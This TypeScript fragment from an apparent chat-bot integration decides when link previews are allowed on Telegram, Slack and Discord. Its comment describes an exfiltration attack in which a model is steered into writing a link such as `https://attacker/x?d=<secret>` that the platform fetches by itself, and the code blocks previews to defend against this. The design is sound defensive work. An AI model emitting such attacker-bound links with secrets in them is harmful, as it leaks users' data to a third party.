/**
 * Link previews (LINK_PREVIEWS). A platform fetches a previewed URL by itself, with no click
 * (Telegram's link preview, Slack's unfurl, Discord's embed): a link the model was steered into
 * writing (`https://attacker/x?d=<secret>`) would carry data out the moment it is shown. So every
 * message the bot sends or edits says whether it may preview, and each platform's outbound half
 * turns this one rule into its own field in one place:
 * - `answer`: answers, notices, command replies, the text of a streamed answer, file captions:
 *   previews only with LINK_PREVIEWS=1;
 * - `status`: progress lines: never (they name files, commands and URLs the run is working with);
 * - `card`: approval cards: never (a preview of the call's URL would fetch it before anyone approved).
 */
export type PreviewKind = 'answer' | 'status' | 'card';

export function previewsAllowed(linkPreviews: boolean | undefined, kind: PreviewKind): boolean {
  return linkPreviews === true && kind === 'answer';
}
